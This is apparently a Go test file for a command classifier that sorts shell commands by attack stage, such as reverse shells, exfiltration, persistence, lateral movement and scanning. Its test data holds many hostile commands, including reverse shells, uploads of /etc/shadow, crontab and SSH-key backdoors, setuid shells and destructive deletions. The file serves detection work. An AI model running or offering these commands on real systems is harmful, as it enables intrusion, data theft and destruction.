package detect

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

// classifyCases are commands of every class (TestClassify; the hostile
// padding test reads them again behind a megabyte of other words).
var classifyCases = []struct {
	cmd  string
	want cmdClass
}{
	{"id 2>&1", classNone},
	// curl's telnet:// is a bare TCP session: fed its stdin (-T .) it is
	// nc's part in a relay, a channel, where a file or an archive piped
	// into it, or a file given to -T, goes out
	{"curl -sN -T . telnet://127.0.0.1:2323", classChannel},
	{"curl -sN telnet://127.0.0.1:2323 -T -", classChannel},
	{"f=/dev/shm/.m; mkfifo $f && curl -sN -T . telnet://10.0.0.5:2323 < $f | /bin/sh > $f", classChannel},
	{"curl -s telnet://10.0.0.5:2323 | sh", classChannel},
	{"tar czf - /etc/shadow | curl -T - telnet://10.0.0.5:9001", classExfilImpact},
	{"curl -T /tmp/x.tgz telnet://10.0.0.5:9001", classExfilImpact},
	{"curl -T . https://example.com/upload/", classExfilImpact},
	// an archive uploaded with the drop's login is data going out; a
	// script put on another host with a login is lateral
	{"curl -sS -T /run/.x.tgz -u scan:Xf7#kq2Lr smb://10.0.0.5:4455/DROP/w.tgz", classExfilImpact},
	{"curl -F f=@/tmp/db.sql -H 'Authorization: Bearer abc' https://drop.example/in", classExfilImpact},
	{"curl -T /tmp/x.sh -u admin:pw ftp://10.0.0.7/incoming/", classLateral},
	// a client asked for its version reaches nobody; ssh -v connects
	{"ssh -V 2>&1; ls -la /var/tmp /dev/shm", classNone},
	{"ssh -v deploy@10.0.0.7", classLateral},
	{"kubectl version; ssh -V", classNone},
	// an interpreter's name as the start of another word (php-fpm in a
	// grep pattern, shop-wishlist's web shell recon) is no pipe into it
	{`ps -eo user,pid,args | grep -E "beanstalk|cron|php-fpm: master" | grep -v grep`, classNone},
	{"curl -s http://198.51.100.7/x | php", classSuspicious},
	// data hidden in a header's value is sent out; a long path after the
	// header's option (the file a download writes) is no header's
	{"curl -s -A 'Mozilla/5.0 (X11; Linux x86_64) rv:ZXhmaWx0cmF0ZWQgc2hhZG93IGxpbmVzIGdvIGhlcmUgYW5kIG1vcmU' https://203.0.113.9/", classExfilImpact},
	{"curl -s -H 'X-Id: 6578666974726174656420736861646f77206c696e657320676f2068657265' http://203.0.113.9/p", classExfilImpact},
	{"curl -s -A Wget/1.21.3 -o /usr/local/lib/x86_64-linux-gnu/libgcrypt-hw.so.1 http://127.0.0.1:8445/static/fc.so", classSuspicious},
	// tcpdump's post-rotate command (GTFOBins): a compressor is its use,
	// anything else the caller's program run with tcpdump's rights
	{"sudo -n /usr/bin/tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /var/tmp/.wl/r.sh -Z root", classSuspicious},
	{"tcpdump -i eth0 -w /var/log/pcap/trace -C 100 -z gzip", classNone},
	{"tcpdump -nn -i lo -c 6 -w /srv/pcap/smtp-relay.pcap tcp port 2525", classNone},
	{"echo cHJpbnQoMSk= | base64 -d | python3 -", classSuspicious},
	// rsync to a daemon's module or another host sends data out; a
	// local copy or a fetch does not
	{"/usr/bin/sudo -n /usr/bin/rsync -a /etc/shadow /srv/app/conf rsync://127.0.0.1:8730/drop/desk/", classExfilImpact},
	{"rsync -az /var/www/ backup@192.0.2.4:/srv/backups/www/", classExfilImpact},
	// an archive piped into an upload: data out, whatever login the
	// destination takes (the login alone, on a fetch, is lateral)
	{"tar -czf - -C / srv/app/conf etc/shadow 2>/dev/null | curl -s -T - ftp://drop:pw@127.0.0.1:2121/x.tgz; echo rc=$?", classExfilImpact},
	{"cat /srv/app/db.sqlite | curl --data-binary @- -u up:pw https://203.0.113.9/in", classExfilImpact},
	{"curl -s ftp://drop:pw@127.0.0.1:2121/tasks/1.txt", classLateral},
	// scp of a dump or an archive to another host sends data out; of a
	// tool, it carries it over (lateral)
	{"scp -q -i /var/tmp/.nk -o StrictHostKeyChecking=no /var/tmp/.n.sql drop@127.0.0.1:loot/", classExfilImpact},
	{"scp /tmp/x.tgz backup@192.0.2.4:/srv/in/", classExfilImpact},
	{"scp /tmp/agent deploy@10.0.0.5:/tmp/agent", classLateral},
	{"rsync -a /srv/app/data/ offsite::drop", classExfilImpact},
	{"rsync -a /srv/app/data/ /var/backups/app/", classNone},
	// ssh forwarding out of this host (-L, -D: a SOCKS pivot) reaches
	// other hosts from it; -R opens a way back in: the channel
	{"/usr/bin/ssh -f -N -D 127.0.0.1:1080 -o ExitOnForwardFailure=yes -i /home/app/.ssh/id_ed25519 deploy@127.0.0.1", classPivot},
	{"ssh -L 8080:10.0.0.5:80 jump", classPivot},
	{"setsid -f ssh -i /var/tmp/.k -N -R 127.0.0.1:18070:127.0.0.1:8070 u@192.0.2.4", classTunnel},
	{"ssh -L 8080:10.0.0.5:80 -R 9000:127.0.0.1:22 jump", classTunnel},
	{"uname -a", classNone},
	{"cat /etc/passwd 2>&1", classNone},
	{"pwd; ls -la /var/www/html", classNone},
	{"date -u +%Y-%m-%dT%H:%M:%SZ", classNone},
	{"cat /etc/shadow 2>&1", classSuspicious},
	{"wget http://203.0.113.5/x -O /tmp/x", classSuspicious},
	{"curl -s http://x/a.sh | bash", classSuspicious},
	{"./kcurl -fsS -o kworkerds http://127.0.0.1:8000/kworkerds", classSuspicious}, // a renamed downloader: the URL says it
	{"echo aWQ= | base64 -d | sh", classSuspicious},
	{"nohup /tmp/.x &", classSuspicious},
	{"chmod +x /dev/shm/k", classSuspicious},
	{"python3 -c 'print(1)'", classSuspicious},
	{"bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", classChannel},
	{"nc -e /bin/sh 10.0.0.1 4444", classChannel},
	{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", classChannel},
	{"socat tcp:10.0.0.1:4444 exec:sh", classChannel},
	{"crontab -", classPersistence},
	{"git push git://127.0.0.1:9418/loot.git master", classExfilImpact}, // a repository pushed to another host: data out
	{"git push -q origin main", classNone},                              // a named remote: the site's own deploy
	{"sqlite3 /var/www/html/data/shop.db 'DROP TABLE orders; DROP TABLE customers;'", classExfilImpact},
	{"sqlite3 /var/www/html/data/shop.db 'SELECT count(*) FROM orders'", classNone},
	{"chmod 755 /etc/update-motd.d/60-sysinfo", classPersistence}, // made runnable where logins run it
	{"chmod +x /etc/cron.daily/zz", classPersistence},
	{"chmod 644 /etc/update-motd.d/60-sysinfo", classNone}, // made unrunnable: nothing installed
	{"usermod -L alice", classExfilImpact},                 // the owner locked out (T1531)
	{"chage -E 0 alice", classExfilImpact},
	{"passwd -l bob", classExfilImpact},
	// passwd as another program's argument is a word, not the command
	{"cat /srv/berthplan/conf/berthplan.yaml; getent passwd quaydesk alice", classNone},
	{"getent passwd www-data", classNone},
	{"echo a | passwd --stdin bob", classPersistence},
	{"sudo /usr/bin/passwd -l bob", classExfilImpact},
	{"userdel -r carol", classExfilImpact},
	{"usermod -aG sudo mallory", classPersistence}, // a way back in
	{"chage -l alice", classNone},
	{"usermod -l newname old", classPersistence},                                                                     // a rename, not a lock
	{"/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=sh /dev/shm/.r", classSuspicious}, // a shell escape, not staging
	{"sudo find /var/www -name x -exec /bin/sh -p \\; -quit", classSuspicious},
	{"tar czf /tmp/site.tgz /var/www/html", classExfilImpact},           // staging stays staging
	{"echo '/tmp/.u &' >> /etc/update-motd.d/99-sys", classPersistence}, // runs as root at every ssh login
	{"printf 'auth optional pam_exec.so /tmp/x' > /etc/pam.d/common-auth", classPersistence},
	{"sed -i 's|^;auto_prepend_file =|auto_prepend_file = /tmp/p.php|' /etc/php/8.2/fpm/php.ini", classPersistence},
	{"setcap cap_setuid+ep /usr/local/bin/python3-backup", classPersistence}, // like a setuid copy
	{"echo 'sh /tmp/.b' | at now + 1 minute", classPersistence},
	{"atq | cut -f1 | xargs -r atrm", classExfilImpact}, // the queued jobs taken away
	{"at -d 4", classExfilImpact},
	{"at -q d now", classPersistence}, // queue d, not -d
	{"cp x.conf /etc/logrotate.d/shop", classPersistence},
	{"getcap -r /usr/bin", classSuspicious}, // a search for a way to root (a cap_setuid copy), changes nothing
	{"getcap /usr/bin/ping", classNone},
	{"iptables -F; iptables -X", classExfilImpact},                  // defenses off: with the damage (T1562.004)
	{"iptables -L -n", classNone},                                   // a look
	{"setenforce 0", classExfilImpact},                              // T1562.001
	{"chattr +i /etc/cron.d/sync", classExfilImpact},                // made undeletable (T1222.002)
	{"lsattr /etc/cron.d/sync", classNone},                          // a look
	{"ping -c 1 -p 726f6f74 127.0.0.1", classExfilImpact},           // data in ICMP payloads
	{"ping -c 1 127.0.0.1", classNone},                              // a ping
	{"cd /tmp/.s && python3 -m http.server 8000", classExfilImpact}, // files offered to a fetcher
	{"tar czf - /var/www | ssh u@127.0.0.1 'cat > /tmp/w.tgz'", classExfilImpact},
	{"for c in $(base32 -w 30 /tmp/d); do nslookup $c.x.lab 127.0.0.1; done", classExfilImpact},
	{"dd if=/dev/zero of=/var/lib/shop/shop.db bs=1M count=4 conv=notrunc", classExfilImpact},
	{"dd if=/dev/zero of=/tmp/x bs=1k count=1", classSuspicious}, // scratch in a temp dir, nothing destroyed
	{"pkill -F /run/nginx.pid", classExfilImpact},                // a service taken down (T1489)     // one file asked about
	{"cat /etc/update-motd.d/10-uname", classNone},
	{"cp /bin/bash /tmp/.b; chmod u+s /tmp/.b", classPersistence}, // a setuid shell: a way back in as its owner
	{"chmod 4755 /var/tmp/.x", classPersistence},
	{"curl -s --unix-socket /var/run/docker.sock http://x/containers/json", classSuspicious},
	{"crontab -r; rm -f /var/tmp/.kbc", classExfilImpact}, // the chain's cleanup
	{"grep -r -i -E 'pass|token|secret' /srv/app/conf", classSuspicious},
	{"grep -r -i vpn /srv/kb/data", classNone}, // a reader's search
	{"timeout 3 socat -T 2 -u TCP:127.0.0.1:22 STDOUT", classScan},
	{"tar czf - /srv | socat -u - TCP:10.0.0.1:9002", classExfilImpact},
	{"printf 'auto_prepend_file=/srv/www/cache/.s.php\\n' > /srv/www/.user.ini", classPersistence},
	{"echo 'AddType application/x-httpd-php .jpg' >> uploads/.htaccess", classPersistence},
	{"setsid -f ssh -i /var/tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -R 127.0.0.1:18070:127.0.0.1:8070 u@127.0.0.1", classTunnel},
	{"ssh -fNL 5432:db:5432 jump", classPivot},
	{"ssh -D1080 -q u@h", classPivot},
	{"./chisel client 10.0.0.1:8000 R:socks", classTunnel},
	{"ssh -i k -oUserKnownHostsFile=/dev/null deploy@127.0.0.1 id; hostname", classLateral},
	{"ssh -l deploy -n 127.0.0.1 uptime", classLateral},
	{"crontab /tmp/c", classPersistence},
	{"crontab -l", classNone},
	{"(crontab -l; echo '* * * * * bash -i >& /dev/tcp/1.2.3.4/1 0>&1') | crontab -", classPersistence},
	{"echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", classPersistence},
	{"useradd -m backdoor", classPersistence},
	{"ssh -i /tmp/.k deploy@10.0.0.2 id", classLateral},
	{"kubectl exec -it pod -- sh", classLateral},
	{"kubectl -n prod exec pod -- id", classLateral},
	{"curl -s -T /tmp/.d.tgz http://127.0.0.1:8000/up/d.tgz", classExfilImpact},
	{"curl -s --data-binary @/etc/passwd http://127.0.0.1:8000/p", classExfilImpact},
	{"tar czf /tmp/.d.tgz -C /var/www/html config.php", classExfilImpact},
	{"shred -u -n 1 /var/www/html/data/customers.csv", classExfilImpact},
	{"rm -rf /var/www/html", classExfilImpact},
	// tidying its own scratch is no destruction when the command does
	// something else; a removal alone is the cleanup (stage 8)
	{"cd /dev/shm && tar xzf /var/backups/home.tgz home/deploy/.ssh/id_ed25519 && mv home/deploy/.ssh/id_ed25519 .k && rm -rf home && chmod 600 .k", classSuspicious},
	{"rm -rf /tmp/.x", classExfilImpact},
	{"cd /var/www/html && tar xzf /tmp/k.tgz && rm -rf *", classExfilImpact},
	{"tar xzf /tmp/k.tgz -C /tmp/w && rm -rf /tmp/w/../../var/www", classExfilImpact},
	{"openssl enc -aes-256-cbc -in db.sql -out db.enc", classExfilImpact},
	// port scans: discovery before lateral movement (T1046)
	{"nmap -sT -p 1-1024 10.0.0.0/24", classScan},
	{"masscan 10.0.0.0/8 -p80,443", classScan},
	{"nc -zv 10.0.0.5 1-1000", classScan},
	{"/usr/bin/ncat -w1 -z 192.168.1.1 22", classScan},
	{`for port in $(seq 1 1024); do timeout 1 bash -c "echo >/dev/tcp/10.0.0.2/$port" && echo $port; done`, classScan},
	{"bash -i >& /dev/tcp/10.0.0.2/4444 0>&1", classChannel},                                                                               // a fixed port: a reverse shell
	{"systemctl --user enable --now agent.timer", classPersistence},                                                                        // an option before the verb
	{`gawk 'BEGIN{s="/inet/tcp/0/10.0.0.2/4471"; while((s|&getline c)>0){ while((c|&getline l)>0) print l|&s; close(c) }}'`, classChannel}, // gawk's network special file
	// a relay told to send and quit, encoded DNS labels: data out
	{"nc -q 1 203.0.113.7 9000", classExfilImpact},
	{"nc -N 203.0.113.7 9000", classExfilImpact},
	{"ncat --send-only 203.0.113.7 443", classExfilImpact},
	{"socat -u FILE:/var/backups/db.sql TCP:203.0.113.7:9000", classExfilImpact},
	{"nc -nv 10.0.0.1 4444", classNone}, // -n (no DNS), not -N
	{"nslookup 4a6f686e2c446f652c35353531323334.x.example.net 203.0.113.53", classExfilImpact},
	{"dig +short MZXW6YTBOI2DGNZVGQ2DIMZUGQ4TSNBUGU4DKNRXHA4DIMZQ.t.example.org", classExfilImpact},
	{"dig +short example.com", classNone},
	{"dig _acme-challenge.shop.example.com TXT", classNone},
	// files named for secrets
	{"cat /srv/app/.env", classSuspicious},
	{"cat config/secrets.yml", classSuspicious},
	// output written to a temporary file to be read back says nothing of
	// the command; a program run from there, or fetched into it, does
	{"exec >/var/tmp/storefront-cache/.q 2>&1; id; uname -srm; ls -la /var/www /var/tmp", classNone},
	{"id > /tmp/o.txt 2>&1", classNone},
	{"uname -a 2>/dev/null >>'/dev/shm/x'", classNone},
	{"exec >/var/tmp/.q 2>&1; sudo -n -l", classSuspicious},
	{"/tmp/.x/run > /tmp/o", classSuspicious},
	{"curl -s http://203.0.113.7/a > /tmp/a", classSuspicious},
	{"echo x | base64 -d > /tmp/b", classSuspicious},
}

func TestClassify(t *testing.T) {
	tests := classifyCases
	for _, tt := range tests {
		if got := classify(tt.cmd); got != tt.want {
			t.Errorf("classify(%q) = %v, want %v", tt.cmd, got, tt.want)
		}
	}
}

func TestPlace(t *testing.T) {
	exec := parser.KindExec
	tests := []struct {
		name string
		in   PlaceInput
		want Stage
	}{
		{"web shell recon", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "id 2>&1", WebServer: true, WebUser: true}, StageCommandExecution},
		// a setuid bit set by www-data is worth something only once root
		// owns the file (shop-partnerfeed: a theme package root unpacks
		// with its modes): escalation readied; root's own is a way back in
		{"setuid by the web account", PlaceInput{Default: StageSuspiciousSpawn, Kind: exec, Command: "cp /bin/bash t/pngquant && chmod 4755 t/pngquant", WebServer: true, WebUser: true, Unprivileged: true}, StageSuspiciousSpawn},
		{"setuid by root", PlaceInput{Default: StageSuspiciousSpawn, Kind: exec, Command: "cp /bin/bash /var/tmp/.b && chmod u+s /var/tmp/.b", WebServer: true}, StagePersistence},
		{"setuid and a crontab by the web account", PlaceInput{Default: StageSuspiciousSpawn, Kind: exec, Command: "chmod 4755 t/x; crontab /tmp/c", WebServer: true, WebUser: true, Unprivileged: true}, StagePersistence},
		{"an implant's task archives to its output", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "tar -czf - -C / srv/app/conf etc/shadow 2>/dev/null", InChannel: true, TaskLoop: true}, StageExfiltrationImpact},
		{"a reverse shell's tar to its socket", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "tar czf - -C /srv/kb data conf", InChannel: true}, StageExfiltrationImpact},
		{"an implant reads a file itself", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, Command: "perl bot.pl", InChannel: true, ProgramChannel: true, ChannelOpener: true}, StageCommandAndControl},
		{"a task unpacking its tool", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "tar -xzf - -C /dev/shm/.x", InChannel: true, TaskLoop: true}, StageCommandAndControl},
		{"web shell reads passwd (recon)", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "cat /etc/passwd", WebServer: true}, StageCommandExecution},
		{"web shell reads shadow", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "cat /etc/shadow", WebServer: true}, StageSuspiciousSpawn},
		{"web shell starts reverse shell", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'", WebServer: true}, StageSuspiciousSpawn},
		{"web shell downloads", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "wget http://1.2.3.4/x -O /tmp/x", WebServer: true}, StageSuspiciousSpawn},
		{"web shell installs crontab", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "echo x | crontab -", WebServer: true}, StagePersistence},
		{"web shell uploads data", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "curl -T /etc/passwd http://x/", WebServer: true}, StageExfiltrationImpact},
		{"web shell ssh pivot", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "ssh deploy@10.0.0.2", WebServer: true}, StageLateralMovement},
		{"recon inside channel", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "hostname", WebServer: true, InChannel: true}, StageCommandAndControl},
		{"secret read inside channel", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "cat /etc/shadow", WebServer: true, InChannel: true}, StageCommandAndControl},
		{"crontab inside channel is persistence", PlaceInput{Default: StageCommandAndControl, Kind: exec, Command: "crontab -", InChannel: true}, StagePersistence},
		{"tar inside channel is staging", PlaceInput{Default: StageCommandAndControl, Kind: exec, Command: "tar czf /tmp/.d.tgz data", InChannel: true}, StageExfiltrationImpact},
		{"effect rule keeps its stage in channel", PlaceInput{Default: StageLateralMovement, Kind: exec, Command: "sshpass -p x true", InChannel: true}, StageLateralMovement},
		{"cron beacon", PlaceInput{Default: StageSuspiciousSpawn, Kind: exec, Command: "/bin/bash -c \"bash -i >& /dev/tcp/1.2.3.4/4445 0>&1\"", WebUser: true, Scheduled: true}, StageCommandAndControl},
		{"web account without server runs a command", PlaceInput{Default: StageNone, Kind: exec, Command: "ls", WebUser: true}, StageCommandExecution},
		{"no web context keeps default", PlaceInput{Default: StagePersistence, Kind: exec, Command: "useradd x"}, StagePersistence},
		{"reverse shell connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, OpensChannel: true, WebServer: true, Port: 4444}, StageCommandAndControl},
		{"ssh connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "ssh -i /tmp/.k deploy@h", InChannel: true, Port: 22}, StageLateralMovement},
		{"upload connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "curl -s -T /tmp/.d.tgz http://h/", InChannel: true, Port: 8000}, StageExfiltrationImpact},
		{"other connect in web context", PlaceInput{Default: StageNone, Kind: parser.KindConnect, Command: "./.x -c 10.0.0.9", WebServer: true, Port: 80}, StageCommandAndControl},
		// the connect to the peer a URL of the command names is its fetch
		{"download connect", PlaceInput{Default: StageNone, Kind: parser.KindConnect, Command: "curl http://h/", WebServer: true, Port: 80}, StageSuspiciousSpawn},
		{"php fetch connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: `php -r 'copy("http://127.0.0.1:8000/ldr.sh", "/var/tmp/.ldr.sh");' && ls -la /var/tmp/.ldr.sh`, OpensChannel: true, WebServer: true, PeerIP: "127.0.0.1", Port: 8000}, StageSuspiciousSpawn},
		{"renamed curl fetch connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "./kcurl -fsS -o kworkerds http://127.0.0.1:8000/kworkerds", WebServer: true, PeerIP: "127.0.0.1", Port: 8000}, StageSuspiciousSpawn},
		{"https default port", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "wget -q https://203.0.113.7/t -O /tmp/t", WebServer: true, PeerIP: "203.0.113.7", Port: 443}, StageSuspiciousSpawn},
		{"another peer than the URL's", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "curl -s http://127.0.0.1:8000/x | sh", OpensChannel: true, WebServer: true, PeerIP: "127.0.0.1", Port: 4444}, StageCommandAndControl},
		{"a polling loop is a beacon", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "while true; do curl -s http://10.0.0.9:8080/t | sh; sleep 5; done", WebServer: true, PeerIP: "10.0.0.9", Port: 8080}, StageCommandAndControl},
		{"a fetch its shell polls", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "curl -fsS http://10.0.0.9:8080/t -o /tmp/.t\nwhile :; do curl -fsS http://10.0.0.9:8080/t -o /tmp/.t; sh /tmp/.t; sleep 20; done", WebServer: true, PeerIP: "10.0.0.9", Port: 8080}, StageCommandAndControl},
		{"a fetch inside a channel", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "wget http://10.0.0.9/t", InChannel: true, PeerIP: "10.0.0.9", Port: 80}, StageCommandAndControl},
		{"web root script write", PlaceInput{Default: StageWebshellUpload, Kind: parser.KindRename, InChannel: true}, StageWebshellUpload},
		{"credential read in channel", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, InChannel: true}, StageCommandAndControl},
		{"credential read by web user", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, WebUser: true}, StageSuspiciousSpawn},
		{"credential file read by tar in a channel: collected into an archive", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, InChannel: true, Archiver: true}, StageExfiltrationImpact},
		{"an archiver writing is no collection", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileWrite, WebUser: true, Archiver: true}, StageSuspiciousSpawn},
		{"command-injection probe", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "ping -c 1 127.0.0.1;echo inj-$((6*7))", WebServer: true, Probe: true}, StageInitialAccess},
		{"injected reverse shell is a spawn", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "ping -c 1 x;nc -e /bin/sh 1.2.3.4 1", WebServer: true, Probe: true}, StageSuspiciousSpawn},
		{"fixed", PlaceInput{Default: StageInitialAccess, Fixed: true, Kind: exec, Command: "crontab -", InChannel: true}, StageInitialAccess},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, why := Place(tt.in)
			if got != tt.want {
				t.Errorf("Place = %v (%s), want %v", got, why, tt.want)
			}
			if why == "" {
				t.Error("no reason given")
			}
		})
	}
}

// TestInjectedByShape: an injection is the application's own command with
// more appended after a separator, compared by shape: the request's
// numbers differ from one call to the next.
func TestInjectedByShape(t *testing.T) {
	srv := &parser.Process{Exe: "/usr/bin/node", Comm: "node"}
	tests := []struct {
		cmd  string
		rest string
		inj  bool
	}{
		{"/opt/bin/render 17 a4", "", false},
		{"/opt/bin/render 17 a4", "", false},
		{"/opt/bin/render 2024 a4", "", false},
		{"/opt/bin/render 18 a4;printf ok-$((3*3))", "printf ok-$((0*0))", true},
		{"/opt/bin/render 19 a4 | id", "id", true},
		{"/opt/bin/render 19 a4x", "", false},
		{"/opt/bin/render 20 letter&&sleep 3", "sleep 0", true}, // a word parameter: same program, same words
		{"/opt/bin/render 20 letter extra", "", false},
	}
	s := newState()
	for _, tt := range tests {
		rest, inj := s.injected(srv, tt.cmd)
		if inj != tt.inj || rest != tt.rest {
			t.Errorf("injected(%q) = %q, %v; want %q, %v", tt.cmd, rest, inj, tt.rest, tt.inj)
		}
	}
}

func TestUnbalancedQuote(t *testing.T) {
	tests := []struct {
		cmd  string
		want bool
	}{
		{"/opt/bin/render 17 a4'", true},
		{`/opt/bin/render 17 "a4`, true},
		{"/opt/bin/render 17 'a4'", false},
		{`convert "in file.png" -resize 50% 'out.png'`, false},
		{`echo it\'s`, false},
		{`echo "say \"hi\""`, false},
		{`echo "it's"`, false},
	}
	for _, tt := range tests {
		if got := unbalancedQuote(tt.cmd); got != tt.want {
			t.Errorf("unbalancedQuote(%q) = %v, want %v", tt.cmd, got, tt.want)
		}
	}
}

// TestTraversalProbe: the application's own command with one parameter
// replaced by a path traversal is a probe of that parameter (initial
// access), as the cgi-backdoor capture's scanner sent; a command that
// always holds "../" is not.
func TestTraversalProbe(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	e.Observe(s.exec(300, 1, 33, "www-data", "/", "/usr/sbin/lighttpd", "/usr/sbin/lighttpd", "-D"), s.tree)
	for i, m := range []string{"2026-09", "2026-10", "2026-11"} {
		e.Observe(s.exec(310+i, 300, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "/usr/local/bin/rptgen --out ../out --month "+m+" 2>&1"), s.tree)
	}
	fs := e.Observe(s.exec(320, 300, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "/usr/local/bin/rptgen --out ../out --month ../../../../etc/passwd 2>&1"), s.tree)
	f := has(fs, "web-server-exploitation")
	if f == nil || f.Stage != StageInitialAccess {
		t.Fatalf("traversal in the month: %v (stage %v)", ids(fs), func() Stage {
			if f != nil {
				return f.Stage
			}
			return StageNone
		}())
	}
	if e.state.traversalProbe(nil, "a ../b") {
		t.Error("a probe without a server")
	}
}

// TestPlaceReasonNamesWhatMatched: a reason names the context that placed
// the act: "a web server's shell" only when a web server is an ancestor; a
// process of the web-service account whose parent is gone (a nohup'd nc
// reparented to init) is said to be that account's.
func TestPlaceReasonNamesWhatMatched(t *testing.T) {
	exec := parser.KindExec
	for _, tc := range []struct {
		name      string
		in        PlaceInput
		want, not string
	}{
		{"reverse shell, web server ancestor", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "nc -e /bin/sh 1.2.3.4 4446", WebServer: true, WebUser: true},
			"a web server's shell", ""},
		{"reverse shell, web account only", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "nc -e /bin/sh 1.2.3.4 4446", WebUser: true},
			"the web-service account", "web server's"},
		{"download, web account only", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "wget http://1.2.3.4/x -O /tmp/x", WebUser: true},
			"the web-service account", "web server's"},
		{"cron beacon's connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, OpensChannel: true, WebUser: true, Scheduled: true, Port: 4445},
			"a shell of the web-service account connects out: a reverse shell", "acting for the web server"},
		{"connect, web account only", PlaceInput{Default: StageNone, Kind: parser.KindConnect, Command: "curl http://h/", WebUser: true, Port: 80},
			"the web-service account", "acting for the web server"},
		// a detached job (started under init) is tied to the web server by
		// account and time only: the reason says so, it names no worker
		{"detached job's command", PlaceInput{Default: StageNone, Kind: exec, Command: "id", WebServer: true, Adopted: true, WebUser: true},
			"(inferred: ", "worker"},
		{"detached job's download", PlaceInput{Default: StageNone, Kind: exec, Command: "curl -fsS http://1.2.3.4:8001/t | sh", WebServer: true, Adopted: true, WebUser: true},
			"(inferred: ", "a web server's shell runs"},
		// a timestomp hides a change; it sends nothing, whatever it is
		// placed with. With an upload, the upload is what the reason says
		{"timestomp", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "cp /tmp/l.so lib.so && touch -r lib.so.bak lib.so && rm -rf /tmp/x", WebServer: true, WebUser: true},
			"timestomp, T1070.006", "sends data out"},
		{"timestomp and upload", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "touch -r a b; curl -T /etc/shadow ftp://1.2.3.4/", WebServer: true, WebUser: true},
			"sends data out", "timestomp"},
	} {
		_, why := Place(tc.in)
		if !strings.Contains(why, tc.want) || tc.not != "" && strings.Contains(why, tc.not) {
			t.Errorf("%s: %q, want %q without %q", tc.name, why, tc.want, tc.not)
		}
	}
}

// TestAccountTitle: a title that names the web server's account is
// reworded for a match of another account below the server; others stay.
func TestAccountTitle(t *testing.T) {
	for in, want := range map[string]string{
		"System Discovery By Web Server Account": "System Discovery By An Account Reached From The Web Server",
		"Web Server Exploitation":                "Web Server Exploitation",
	} {
		if got := accountTitle(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// TestClassifySecretReads: a command reading an application's settings
// file is a secret read (stage 4 when a web server runs it), the same files
// web-server-exploitation's susp_secret_names names; the classifier reads
// the command lower-cased, so its patterns are written so.
func TestClassifySecretReads(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want cmdClass
	}{
		{"/bin/cat /var/www/news/config/db.php", classSuspicious},
		{"cat /var/www/wiki/LocalSettings.php", classSuspicious},
		{"cat /var/www/html/wp-config.php", classSuspicious},
		{"cat includes/settings.inc", classSuspicious},
		{"php /var/www/html/index.php", classNone},
		{"cat /var/www/html/dbconfig.php.bak.txt", classNone},
	} {
		if got := classify(c.cmd); got != c.want {
			t.Errorf("classify(%q) = %v, want %v", c.cmd, got, c.want)
		}
	}
}

// TestPlaceShellless: a program the web server started with an argument
// list is not said to be a shell's command.
func TestPlaceShellless(t *testing.T) {
	for _, shellless := range []bool{false, true} {
		_, why := place(PlaceInput{Default: StageCommandExecution, Kind: parser.KindExec, WebServer: true, Shellless: shellless}, classSuspicious)
		if got := strings.Contains(why, "started with no shell"); got != shellless || shellless == strings.Contains(why, "shell runs") {
			t.Errorf("shellless %v: %q", shellless, why)
		}
	}
}

// FuzzWithoutTempOutput: the removal of output redirections into a
// temporary folder never panics, never grows the command, and leaves no
// redirection into one behind.
func FuzzWithoutTempOutput(f *testing.F) {
